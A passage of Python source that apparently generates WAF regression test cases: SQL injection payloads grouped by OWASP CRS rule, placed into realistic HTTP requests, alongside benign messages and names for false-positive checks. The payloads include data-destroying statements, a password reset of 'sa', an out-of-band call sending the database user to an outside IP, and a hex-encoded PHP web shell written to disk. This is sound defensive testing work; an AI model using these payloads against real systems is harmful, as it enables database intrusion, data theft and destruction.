        "'||UTL_HTTP.REQUEST('http://203.0.113.7/'||(SELECT user FROM dual))||'",
        "' UNION SELECT username FROM dba_users--",
        "'; EXEC xp_servicecontrol 'start','schedule'--",
        "'; EXEC sp_password NULL,'x','sa'--",
        "'; eXeC Xp_DiRtReE 'c:\\'--",
        "'; DECLARE @o INT; EXEC Sp_OaCrEaTe 'Scripting.FileSystemObject', @o OUT--",
        "' AND 1=CONVERT(NVARCHAR(4000),@@version)--",
    ]),
    # 942480 PL2: SQL Injection Attack (statements: delete from, insert into, select from where, group by having)
    ("sql-injection-attack-942480", [
        "'; DELETE FROM users WHERE 1=1--",
        "'; INSERT INTO admins VALUES('eve','x')--",
        "1 UNION SELECT name FROM users WHERE id=1",
        "1 GROUP BY name HAVING COUNT(*)>1",
        "'||DBMS_PIPE.RECEIVE_MESSAGE('a',10)||'",
        "1 AND OVERLAY(name PLACING 'x' FROM 1) IS NOT NULL",
        "1 UNION SELECT COUNT(*) FROM users",
        "1 UNION SELECT data_type FROM information_schema.columns",
        "1; UPDATE users SET is_admin=1 WHERE name='eve'",
        "1 UNION SELECT name INTO @p FROM users LIMIT 1",
        "'; dElEtE/**/fRoM users--",
        "'; insert\tinto admins values(1)--",
        "1 UNION SELECT LENGTH(name) FROM users",
        ("wire", "1%20union%20select%20name%20from%20users%20where%201%3d1"),
    ]),
    # 942430 PL2: Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)
    ("restricted-special-chars", [
        "'))))))))))))--",
        "1'||'a'||'b'||'c'||'d'||'e'||'",
        "((((((((((((1))))))))))))",
        "')) OR (('a'='a')) OR (('b'='b",
        "';--;--;--;--;--;--",
        "'\"`'\"`'\"`'\"`",
        "@@@@####$$$$%%%%",
        "1'))) UNION SELECT ((((1)))),((((2))))--",
        "{[<(;:|&^*!~)>]}{[<(;:|&^*!~)>]}",
        "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT(@@version)),FLOOR(RAND(0)*2))x "
        "FROM information_schema.tables GROUP BY x)a)-- -",
        ("wire", "%27%29%29%29%29%29%29%29%29%29%29%29%29--"),
        "1'-(((((((((((2)))))))))))-'",
        "'<>'!='^'|'&'~'",
    ]),
    # 942440 PL2: SQL Comment Sequence Detected
    ("sql-comment-sequence", [
        "admin'--",
        "admin'-- -",
        "1;--",
        "1 /* note */",
        "1*/",
        "admin'# x",
        "1 -- x",
        ("wire", "1'%00"),
        "admin'/*",
        ("wire", "1'--+"),
        "';--",
        "x--\x0b",
        "/**/",
        ("wire", "1;%00"),
    ]),
    # 942450 PL2: SQL Hex Encoding Identified
    ("sql-hex-encoding", [
        "0x61646d696e",
        "1 UNION SELECT 0x2f6574632f706173737764",
        "' AND name=0x70617373--",
        "1 AND UNHEX(0x414243)",
        "0X41424344",
        "1 UNION SELECT CONCAT(0x3a,user(),0x3a)",
        "';DECLARE @s VARCHAR(99)=0x73656c6563742031;EXEC(@s)--",
        "1 AND name=X'61646d696e'",
        "1 AND 1=CAST(0x73656c656374 AS VARCHAR)",
        "1 AND 0x61646d696E=0x61646D696e",
        "1 AND name=decode('61646d696e','hex')",
        ("wire", "1%20and%20name%3d0x61646d696e"),
        "1 UNION SELECT 0x3c3f706870206576616c28245f504f53545b315d293b3f3e INTO OUTFILE '/tmp/x.php'",
    ]),
    # 942510 PL2: SQLi bypass attempt by ticks or backticks detected
    ("ticks-backticks-bypass", [
        "`id`",
        "SELECT`name`FROM`users`",
        "1`or`1",
        "`admin`#",
        "x` WHERE `id`=1",
        "\u00b4 or 1=1--",
        "` or ``=`",
        "1 ORDER BY `id` DESC",
        "`users` union select 1",
        "\u2018 OR 1=1--",
        "\u02bc OR 1=1--",
        ("jsonu", "`id`"),
        ("wire", "%60id%60%20or%201"),
        "`iD`=`Id`",
    ]),
    # CRS 4.x: JSON-Based SQL Injection
    ("json-based-sql-injection", [
        "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -",
        "1 AND '{\"a\":2}'::jsonb->>'a'='2'",
        "1 AND '{\"b\":2}'::jsonb @> '{\"b\":2}'::jsonb",
        "1 AND '{\"a\":1}'::jsonb <@ '{\"a\":1,\"b\":2}'",
        "1' AND JSON_VALUE('{\"x\":\"1\"}','$.x')='1'--",
        "1 AND json_extract('{\"a\":1}','$.a')=1",
        "1 AND '{\"a\":1}' -> '$.a' = 1",
        "1 AND '[\"1\",\"2\"]'::jsonb ?| array['1']",
        "1 AND JSON_CONTAINS('{\"a\":1}','1','$.a')",
        "1 AND jSoN_eXtRaCt('{\"a\":1}','$.a')=1",
        "1 AND '{\"a\":1}'::jsonb/**/@>/**/'{}'",
        "1 AND JSON_LENGTH('[1,2]')=2",
        ("jsonu", "1 AND '{\"a\":1}'::jsonb @> '{}'"),
    ]),
    # CRS 4.x: MySQL Scientific Notation payload detected
    ("mysql-scientific-notation", [
        "1.e(ascii 1.e(substring(1.e(select name from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70 "
        "or'1'='2",
        "' or 1.e(1) or '1'='1",
        "1.e1union select 1,2",
        "0.e1union/**/select 1,2",
        "1 1.e,1 1.e",
        "1.E(ascii 1.E(user() 1.E)1.E) > 64 or'1'='1",
        "2.e(select 1)",
        "1.0e0union select 1",
        ".1e1union select 1",
        "1e1union select 1",
        "1' and 1.e(ascii(user()))>64-- -",
        ("wire", "1.e1%0aunion%0aselect%0a1"),
    ]),
    # CRS 4.x: SQL Authentication bypass (split query)
    ("sql-auth-bypass-split-query", [
        "admin';",
        "admin' ;",
        "x\";",
        "abc`;",
        "admin';--",
        "admin'  ;  --",
        "\";DROP TABLE sessions;--",
        "admin'/*",
        "*/ OR '1'='1",
        "admin'\t;",
        ("wire", "admin%27%3B"),
        ("jsonu", "admin';"),
        "O'Neil';--",
    ]),
    # CRS 4.x: Detects basic SQL authentication bypass attempts 4/4
    ("sql-auth-bypass-4", [
        "' or username is null --",
        "' is not null --",
        "admin' or 'a' is not null#",
        "' OR true--",
        "' OR 1 --",
        "' || true #",
        "\" or \"\" is null or \"\"=\"",
        "admin' and 1 -- -",
        "' xor 1 #",
        "' Or TrUe-- -",
        "'/**/or/**/true#",
        "'\tor\ttrue--",
        ("wire", "%27%20or%20true--%20"),
        "admin' or not false--",
    ]),
]

REAL_ALL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Tenant-Id",
            "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS_ALL = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
          "rs-header:X-Custom-Header", "rs-cookie"]
REAL_BY_ENC = {"": REAL_ALL, "num": REAL_ALL, "wire": ["query", "form", "path", "cookie", "param-name"],
               "jsonu": ["json"], "xmlent": ["xml"], "pair": ["query", "form"], "rawjson": ["json"]}
RS_BY_ENC = {"": RS_ALL, "num": RS_ALL, "wire": ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"],
             "jsonu": ["rs-json"], "xmlent": ["rs-xml"], "pair": ["rs-query", "rs-form"], "rawjson": ["rs-json"]}
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_UA = "Mozilla/5.0 (compatible; waf-regression-runner/1.0)"

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "location", "nickname"]
COOKIE_NAMES = ["last_search", "pref_sort", "tracking_id", "lang", "filter"]
HEADER_BAD = set("\r\n\x00\x0b\x0c")

rng = random.Random(107107)


def _token(n: int = 24) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(n))


def _browser(accept: str, n: int, dest: str = "empty") -> dict[str, str]:
    """The headers a current browser sends to our app (session cookie and consent cookie included)."""
    return {"User-Agent": BROWSER_UAS[n % len(BROWSER_UAS)], "Accept": accept,
            "Accept-Language": ["en-US,en;q=0.9", "en-GB,en;q=0.8,de;q=0.6", "fr-FR,fr;q=0.9,en;q=0.7"][n % 3],
            "Accept-Encoding": "gzip, deflate, br, zstd",
            "Referer": ["https://app.example.com/admin/users", "https://app.example.com/people",
                        "https://app.example.com/settings/profile"][n % 3],
            "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors" if dest == "empty" else "navigate",
            "Sec-Fetch-Dest": dest,
            "Cookie": f"session={_token(32)}; cookie_consent=accepted"}


def _q(value: str) -> str:
    return urllib.parse.quote(value, safe="")


def _query_uri(value_enc: str, n: int) -> str:
    page, per = f"page={n % 7 + 1}", f"per_page={[20, 50, 100][n % 3]}"
    parts = [[f"q={value_enc}", page, per], [page, f"q={value_enc}", per], [per, page, f"q={value_enc}"]][n % 3]
    return "/api/users?" + "&".join(parts)


def _jsonu(text: str) -> str:
    """`text` as the inside of a JSON string, its punctuation, spaces and vowels written as \\uXXXX escapes."""
    out = []
    for i, ch in enumerate(text):
        if ch.isalnum() and ch not in "aeiouAEIOU":
            out.append(ch)
        else:
            out.append(f"\\u{ord(ch):04x}" if i % 2 else f"\\u{ord(ch):04X}")
    return "".join(out)


def _json_body(field: str, text: str, enc: str, others: dict[str, Any]) -> str:
    """A JSON object: `others`, then `field` carrying the payload in its encoding."""
    head = json.dumps(others, ensure_ascii=False)[:-1]
    if enc == "jsonu":
        value = '"' + _jsonu(text) + '"'
    elif enc in ("rawjson", "num"):
        value = text
    else:
        value = json.dumps(text, ensure_ascii=False)
    return head + (", " if others else "") + json.dumps(field) + ": " + value + "}"


def _xml_value(text: str, enc: str) -> str:
    return text if enc == "xmlent" else xml_escape(text)


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str] | None, boundary: str) -> str:
    lines = []
    for k, v in fields:
        lines += [f"--{boundary}", f'Content-Disposition: form-data; name="{k}"', "", v]
    if file:
        lines += [f"--{boundary}", f'Content-Disposition: form-data; name="{file[0]}"; filename="{file[1]}"',
                  "Content-Type: image/png", "", "\x89PNG fake image bytes"]
    lines += [f"--{boundary}--", ""]
    return "\r\n".join(lines)


def _cookie_value(text: str, enc: str) -> str:
    return text if enc == "wire" else urllib.parse.quote(text, safe="'()*!=/:@$,")


def real_request(place: str, text: str, enc: str, n: int) -> dict[str, Any]:
    """The payload in one of our real routes' input places, as a browser (or the app's client) sends it."""
    wire = enc == "wire"
    enc_v = text if wire else _q(text)
    if place == "query":
        uri = f"/api/users?{text}&page={n % 5 + 1}" if enc == "pair" else _query_uri(enc_v, n)
        return {"method": "GET", "uri": uri, "body": "", "headers": _browser("application/json", n)}
    if place == "form":
        tok = _token(40)
        if n % 10 == 3:
            uri, pairs = "/me/settings", f"csrf_token={tok}&display_name=Ann%20Lee&timezone=Europe%2FBerlin"
            field = "bio"
        else:
            uri, pairs, field = "/admin/users/search", f"csrf_token={tok}", "q"
        body = f"{pairs}&{text}" if enc == "pair" else f"{pairs}&{field}={enc_v}"
        h = _browser("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", n, "document")
        return {"method": "POST", "uri": uri, "body": body,
                "headers": {**h, "Content-Type": "application/x-www-form-urlencoded",
                            "Origin": "https://app.example.com"}}
    if place == "json":
        field = "username" if enc == "rawjson" else ("quota" if enc == "num" else JSON_FIELDS[n % len(JSON_FIELDS)])
        others = {"name": "Ann Lee", "email": "ann.lee@example.org", "department": "Sales"}
        others.pop(field, None)
        method, uri = ("PATCH", "/api/users/42") if n % 10 == 7 else ("POST", "/api/users")
        return {"method": method, "uri": uri, "body": _json_body(field, text, enc, others),
                "headers": {**_browser("application/json", n), "Content-Type": "application/json",
                            "Origin": "https://app.example.com"}}
    if place == "cookie":
        h = _browser("application/json", n)
        h["Cookie"] += f"; {COOKIE_NAMES[n % len(COOKIE_NAMES)]}={_cookie_value(text, enc)}"
        return {"method": "GET", "uri": _query_uri("ann", n), "body": "", "headers": h}
    if place.startswith("header:"):
        h = _browser("application/json", n)
        h[place.split(":", 1)[1]] = text
        return {"method": "GET", "uri": _query_uri("lee", n), "body": "", "headers": h}
    if place == "param-name":
        return {"method": "GET", "uri": f"/api/users?{enc_v}=1&page={n % 4 + 1}", "body": "",
                "headers": _browser("application/json", n)}
    if place == "xml":
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<user><name>Ann Lee</name>'
                f"<bio>{_xml_value(text, enc)}</bio><email>ann.lee@example.org</email></user>")
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": {**_browser("application/xml", n), "Content-Type": "application/xml"}}
    if place in ("multipart-field", "multipart-filename"):
        boundary = "----WebKitFormBoundary" + _token(16)
        if place == "multipart-field":
            body = _multipart([("name", "Ann Lee"), ("bio", text)], None, boundary)
            uri = "/api/users"
        else:
            body = _multipart([("caption", "profile photo")], ("avatar", text + ".png"), boundary)
            uri = "/api/users/42/avatar"
        return {"method": "POST", "uri": uri, "body": body,
                "headers": {**_browser("application/json", n),
                            "Content-Type": f"multipart/form-data; boundary={boundary}"}}
    # path
    return {"method": "GET", "uri": "/api/users/" + enc_v, "body": "", "headers": _browser("application/json", n)}


def rs_request(place: str, text: str, enc: str, n: int) -> dict[str, Any]:
    """The payload as a WAF regression suite sends it: a path that is not our route, an arbitrary name."""
    path, name = RS_PATHS[n % len(RS_PATHS)], RS_NAMES[n % len(RS_NAMES)]
    h = {"User-Agent": RS_UA, "Accept": "*/*"}
    enc_v = text if enc == "wire" else _q(text)
    if place == "rs-query":
        uri = f"{path}?{text}" if enc == "pair" else f"{path}?{name}={enc_v}"
        return {"method": "GET", "uri": uri, "body": "", "headers": h}
    if place == "rs-form":
        body = text if enc == "pair" else f"{name}={enc_v}"
        return {"method": "POST", "uri": path, "body": body,
                "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-json":
        return {"method": "POST", "uri": path, "body": _json_body(name, text, enc, {}),
                "headers": {**h, "Content-Type": "application/json"}}
    if place == "rs-xml":
        body = f'<?xml version="1.0"?>\n<root><{name}>{_xml_value(text, enc)}</{name}></root>'
        return {"method": "POST", "uri": path, "body": body, "headers": {**h, "Content-Type": "text/xml"}}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": text,
                "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-cookie":
        return {"method": "GET", "uri": path, "body": "",
                "headers": {**h, "Cookie": f"{name}={_cookie_value(text, enc)}"}}
    header = place.split(":", 1)[1]
    return {"method": "GET", "uri": path, "body": "", "headers": {**h, header: text}}


def _fits(place: str, text: str) -> bool:
    """Whether a plain payload can sit in `place` as a client sends it (header values: no CR, LF, NUL, VT, FF;
    multipart file names: no double quote or control character)."""
    if "header" in place or place.endswith("cookie"):
        return not (HEADER_BAD & set(text))
    if place == "multipart-filename":
        return '"' not in text and not any(ord(c) < 32 for c in text)
    return True


def _pick(options: list[str], start: int, text: str) -> str:
    for k in range(len(options)):
        place = options[(start + k) % len(options)]
        if _fits(place, text):
            return place
    raise AssertionError(f"no placement for {text!r}")


def attacks() -> Iterator[dict[str, Any]]:
    rng.seed(107107)
    n = 0
    real_i = rs_i = 0
    for sub, payloads in TITLES:
        for p in payloads:
            enc, text = ("", p) if isinstance(p, str) else p
            real_opts, rs_opts = REAL_BY_ENC[enc], RS_BY_ENC[enc]
            real_place = _pick(real_opts, real_i, text)
            rs_place = _pick(rs_opts, rs_i, text)
            real_i += 1
            rs_i += 1
            for place, rec in ((real_place, real_request(real_place, text, enc, n)),
                               (rs_place, rs_request(rs_place, text, enc, n))):
                n += 1
                for k, v in rec["headers"].items():
                    assert not (set(v) & set("\r\n\x00")), (k, v)
                yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub, "placement": place,
                       "payload": text}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently.

SLACK_TEXTS = [
    "select the option that fits best and I'll update the form",
    "Union Square office is closed Friday for the holiday",
    "I slept badly, need coffee before the sleep study debrief",
    "benchmark numbers for the new laptops are in the sheet",
    "can you drop the table of contents from the doc? it's redundant",
    "we'll merge the PR after lunch, then execute the release checklist",
    "match against Leeds on Saturday, who's coming?",
    "shutdown window is 2am-3am UTC tonight, status page is updated",
    "having trouble logging in? try clearing cookies first",
    "order by Friday so it ships next week",
    "O'Brien and D'Angelo are joining the call at 3",
    "don't forget the 1:1 at 3pm",
    "the case study is ready, when do we present it?",
    "insert your name in the sign-up sheet for the potluck",
    "update: the delete button now asks for confirmation",
    "where's the info on the schema change? I need it for the migration notes",
    "query is SELECT id, name FROM teams WHERE archived = false ORDER BY name, any index ideas?",
    "pg_stat_statements says the slow one is the nightly revenue report",
    "the mongo filter uses $in for tags, should be quick",
    "sleep(2) in the retry loop is too long, let's use exponential backoff",
    "I'll grant access once the ticket is approved",
    "char limit on titles is 80 characters",
    "let's convert the doc to PDF before sending",
    "ETA is 10-15 minutes, traffic on the ring road",
    "count me in for the offsite!",
    "the table in room 4 is booked from 2 to 4",
    "we had 2,147 signups this week, new record",
    "can someone explain the difference between UNION and UNION ALL? asking for the SQL workshop",
    "Rock 'n' roll night at the pub, who's in?",
    "the 'Load more' button on mobile is broken again",
    "please don't truncate the logs, we need them for the audit",
    "rename the channel to #team-data please",
    "the new hire's desk is next to mine",
    "lunch options: tacos or the Thai place? vote with emoji",
    "is the coffee machine on 3 fixed yet?",
    "the vendor's invoice says 4,294 EUR, looks right",
    "I'm out sick today, ping me if it's urgent",
    "the customer said 'it just hangs' when uploading",
    "welcome aboard Zoë! glad to have you",
    "Q3 roadmap review moved to Thursday",
    "alter the banner text to say 'Happy holidays'",
    "the desc field is limited to 500 chars in the API",
    "we use CASE WHEN in the dashboard query to bucket ages",
    "my kid has a sleepover Friday so I'm leaving at 4",
    "the benchmark suite takes 40 minutes on CI, can we parallelize?",
    "can you send me the link to the onboarding doc?",
    "who owns the billing service these days?",
    "the new logo looks great, nice job design team",
    "the database migration ran fine in staging",
    "reminder: expense reports are due by the 5th",
    "grep for 'information_schema' in the ORM logs and you'll see the introspection queries",
    "I'll be in the Dublin office next week",
    "let's execute plan B if the vendor doesn't reply by noon",
    "merge conflicts again in package-lock.json, sigh",
    "happy birthday Priya!",
    "the train from Union Station was delayed 20 minutes",
    "does anyone have a spare HDMI adapter?",
    "our SLA is 99.9% uptime, so about 43 minutes a month",
    "the wifi password changed, check the pinned message",
    "can we add a 'where did you hear about us' field to signup?",
    "group by region gives nicer charts than by country",
    "I prefer 'Sr. Engineer' over 'Senior Engineer' on the badge",
    "the API returns 404 for deleted users, is that expected?",
    "the release tag is v2.3.1, notes are in the wiki",
    "delete the old staging buckets after Friday",
    "Kate & Leo's farewell drinks at 6",
    "50% off the conference ticket until Monday",
    "the font on the invoice looks off, too small",
    "tried the new hash join setting, query went from 9s to 2s",
    "null values in the export broke the CSV parser",
    "she said 'select your favourite' and we all picked pizza",
    "we're on track for the March launch",
    "please review my PR when you get a chance",
    "the dashboard 'Top 10 customers' widget is empty",
    "I booked the conference room, it's the one with the whiteboard",
    "can you share the recording from yesterday?",
    "mid-year reviews start next week",
    "the printer on 2 is out of toner again",
    "thanks for covering my on-call shift!",
    "the index on users(email) is missing in prod, adding it now",
    "stored procedures are off-limits in the new service, keep logic in the app",
    "benchmark vs. baseline: 12% faster after the cache change",
    "the hex colour for the brand blue is #1a73e8",
    "copy the link from the browser, not from the email",
    "the form asks for 'Mother's maiden name', we should drop that",
    "my flight lands at 10:45, see you at the hotel",
    "the order of the slides matters, put pricing last",
    "heads up: the VPN certificate expires on the 30th",
    "the 'Sleep Number' bed ad keeps following me around",
    "Oracle licence renewal is due in June",
    "Postgres 16 upgrade is scheduled for the weekend",
    "SQLite is fine for the CLI tool's cache",
    "MySQL replica lag was 3s during the import",
    "the MSSQL box is getting decommissioned in Q4",
    "we're hiring a DBA, please share the posting",
    "the new PM starts Monday, say hi",
    "Let's table this discussion until the next meeting",
    "who's bringing snacks for the demo day?",
    "I just merged the hotfix into main",
    "the quote from the contractor is in the shared drive",
    "the survey results are in, 72% said yes",
    "can we have the retro on Thursday instead?",
    "my name is Seán, the accent matters for the badge please",
    "the OR in the search box should mean either term, not both",
    "and/or is confusing in the policy text, let's pick one",
    "Is it 'log in' or 'login'? style guide says 'log in' as a verb",
    "we're 3-0 up at half time!",
    "release freeze starts on the 20th",
    "there's cake in the kitchen :cake:",
    "the 2FA prompt is asking twice on Safari",
    "the shortcut for select all is Ctrl+A, Cmd+A on mac",
    "Ops says the load balancer sleep timer is 60s",
    "the conditional formatting in the sheet highlights overdue rows",
    "DROP by the booth at the fair, we have stickers",
]

SEARCHES = [
    "O'Connor", "D'Souza", "Jean-Luc Picard", "Zoë Kravitz", "Seán Ó Briain", "Mary-Jane Watson",
    "select committee", "union rep", "sleep policy", "table tennis club", "drop-in hours", "merge conflicts",
    "execute permissions", "shutdown procedure", "match day", "update address", "delete account", "insert card",
    "or else", "and more", "like new", "not sure", "null hypothesis", "case 4412", "having fun",
    "group by region", "order status", "into the woods", "from scratch", "where to park", "rock & roll",
    "AT&T", "Q&A", "C++", "C#", "F# developer", "50% off", "#general", "@channel", "e-mail",
    "benchmark report", "sleep study", "waitfor it", "execute immediately", "merge into one account",
    "information desk", "master bedroom", "temp agency", "northwind traders", "Sales & Marketing",
    "R&D", "Procter & Gamble", "Ben & Jerry's", "McDonald's", "Toys\"R\"Us", "it's", "don't know",
    "5' 11\"", "6'2", "1/2 price", "100%", "2 + 2", "a - b", "x = 1", "the end.", "hello, world",
    "what's new?", "why (not)?", "[draft] plan", "{template}", "<none>", "n/a", "TBD", "FYI",
    "user admin", "admin panel", "root cause", "system status", "database team", "schema designer",
    "character set", "charset utf-8", "latin1 export", "gbk encoding", "big5 font", "pg admin",
    "sql server", "mysql workbench", "oracle cloud", "sqlite browser", "mongodb atlas",
    "char table", "ascii art", "hex colour", "0x prefix", "version 2.1", "length of stay",
    "concat strings in excel", "substring of a word", "count of orders", "rand mcnally", "floor plan",
    "cast list", "convert pdf", "user guide", "current user", "database migration", "schema.org",
    "procedure manual", "function keys", "load balancer", "data load", "truncate text", "rename file",
    "alter ego", "create account", "desc order", "declare income", "exec summary", "call center",
    "open cursor", "goto meeting", "while you were out", "begin again", "end of year", "if needed",
    "case closed", "when available", "then and now", "else where", "exists or not", "top 10",
    "between us", "regexp tester", "rlike", "sounds like fun", "div tag", "mod podcast", "xor gate",
    "is null", "not between", "in stock", "out of office", "outfile", "dumpling recipe", "load file",
    "bulk insert", "openrowset", "copy from", "pg_dump docs", "json extract", "json value",
    "1.5e3 notation", "scientific notation", "12345", "2147483647", "4294967295 bytes",
    "backtick key", "`code`", "'quoted'", "\"double quoted\"", "smart ‘quotes’", "it’s fine",
]

PROFILES = [
    {"name": "Patrick O'Neil", "title": "Head of Sales", "department": "Sales & Partnerships",
     "location": "Dublin, Ireland"},
    {"name": "Anne-Marie D'Arcy", "title": "DBA (MySQL, Postgres)", "department": "Data Platform",
     "location": "Lyon"},
    {"name": "Sam Union", "title": "Select Accounts Manager", "department": "Enterprise", "location": "Union, NJ"},
    {"name": "Li Wei", "title": "Benchmarking Lead", "department": "Performance", "location": "Shanghai"},
    {"name": "María José Núñez", "title": "Head of Merge & Acquisitions", "department": "Finance",
     "location": "Madrid"},
    {"name": "Tom Sleep", "title": "Sleep Coach", "department": "Wellbeing", "location": "Leeds"},
    {"name": "Grace Table", "title": "Operations", "department": "Ops", "location": "Bristol"},
    {"name": "Raj Patel", "title": "Executive Assistant", "department": "Exec Office", "location": "Mumbai"},
    {"name": "Chloé Martin", "title": "Information Security", "department": "Security", "location": "Paris"},
    {"name": "Kwame Mensah", "title": "Data Engineer (Spark, SQL)", "department": "Data", "location": "Accra"},
    {"name": "Ólafur Arnalds", "title": "Sound Design", "department": "Studio", "location": "Reykjavík"},
    {"name": "Jo Drop", "title": "Customer Success", "department": "Support", "location": "Cork"},
    {"name": "Hana Kim", "title": "Product Manager, Search & Match", "department": "Product", "location": "Seoul"},
    {"name": "Ahmed Al-Sayed", "title": "Shutdown Planning Engineer", "department": "Plant Ops",
     "location": "Doha"},
    {"name": "Emily Case", "title": "Legal Counsel", "department": "Legal", "location": "Boston"},
    {"name": "Noah Schema", "title": "Architect", "department": "Platform", "location": "Berlin"},
    {"name": "Lucía Delete", "title": "QA", "department": "Quality", "location": "Sevilla"},
    {"name": "Ivan Order", "title": "Logistics", "department": "Supply Chain", "location": "Sofia"},
    {"name": "Priya Nair", "title": "SRE, on call this week", "department": "Infra", "location": "Bangalore"},
    {"name": "Ben O'Reilly-Smith", "title": "Author, 'SQL for Humans'", "department": "Education",
     "location": "Sebastopol"},
]

BIOS = [
    "Postgres fan. I write SELECTs for a living and JOINs for fun.",
    "Former teacher, now in product. Loves board games & bad puns.",
    "DBA since 2009: MySQL, MSSQL, Oracle; I've seen every kind of slow query.",
    "Trail runner, 3x marathon finisher, terrible at sleeping in.",
    "I benchmark things. Coffee machines included.",
    "Fluent in English, Español and SQL.",
    "Ask me about union negotiations and labour law.",
    "Dad of two, 'chief snack officer' at home.",
    "Match-day volunteer at the local football club.",
    "Part-time DJ: drop the beat, not the table.",
    "Security engineer; I read WAF logs so you don't have to.",
    "Worked on the merge of the two billing systems in 2021.",
    "Writes about data modelling at https://blog.example.org/schema-design",
    "Motto: 'if it isn't in the runbook, it didn't happen'.",
    "I'm the one who says 'let's take this offline'.",
    "Certified scrum master; I execute, then iterate.",
    "Loves crosswords, the harder the better (5-across is always 'ORACLE').",
    "Night owl; the shutdown of the old datacenter was my project.",
    "Hex colour nerd: #ff6f61 is the best colour.",
    "Knows every shortcut in Excel: CONCAT, VLOOKUP and friends.",
]

DOC_LINKS = [
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://www.postgresql.org/docs/16/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://www.sqlite.org/lang_select.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://dev.mysql.com/doc/refman/8.0/en/fulltext-boolean.html",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/statements/merge-transact-sql",
    "https://example.com/blog/2024/03/why-we-dropped-stored-procedures",
    "https://news.example.org/sport/2024/05/18/union-berlin-match-report",
    "https://shop.example.com/products/table-lamp?color=oak&size=m",
    "https://www.example.co.uk/sleep/better-sleep-guide",
    "https://github.com/acme/benchmarks/blob/main/README.md",
    "https://docs.example.com/api/v2/users#delete-a-user",
    "https://maps.example.com/?q=Union+Square,+San+Francisco",
    "https://calendar.example.com/event?id=4412&title=Select%20committee%20hearing",
]

USER_AGENTS = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Mobile Safari/537.36",
    "AcmeApp/5.2.1 (iPhone; iOS 17.5; Scale/3.00)",
    "AcmeApp/5.2.0 (Android 14; Pixel 8; okhttp/4.12.0)",
    "curl/8.5.0",
    "PostmanRuntime/7.39.0",
    "axios/1.7.2",
    "Go-http-client/2.0",
    "Slackbot 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Google-InspectionTool/1.0)",
    "okhttp/4.12.0",
    "Java/17.0.11",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
] + BROWSER_UAS

REFERERS = [
    "https://www.google.com/search?q=acme+user+directory",
    "https://www.bing.com/search?q=o%27reilly+books+sql",
    "https://duckduckgo.com/?q=union+square+office+hours",
    "https://app.example.com/admin/users?q=O%27Brien&page=2",
    "https://app.example.com/people?sort=name&order=desc",
    "https://app.example.com/reports/benchmark-q3",
    "https://mail.example.com/mail/u/0/#inbox",
    "https://example.slack.com/archives/C0123456789",
    "https://app.example.com/settings/profile#bio",
    "https://t.co/AbCdEf123",
    "https://www.linkedin.com/feed/",
    "https://app.example.com/search?q=table+tennis+club",
]

COOKIE_VALUES = [
    "theme=dark", "lang=en-GB", "last_search=table%20tennis", "tz=Europe%2FLondon", "recent=O%27Brien",
    "pref_sort=name_desc", "filter=dept%3ASales", "tracking_id=GA1.2.1234567.1719000000",
    "last_search=select%20committee", "pref_sort=created_at", "filter=union%20reps",
    "recent=D%27Souza%2CZo%C3%AB", "lang=fr-FR", "theme=high-contrast", "last_search=sleep%20study",
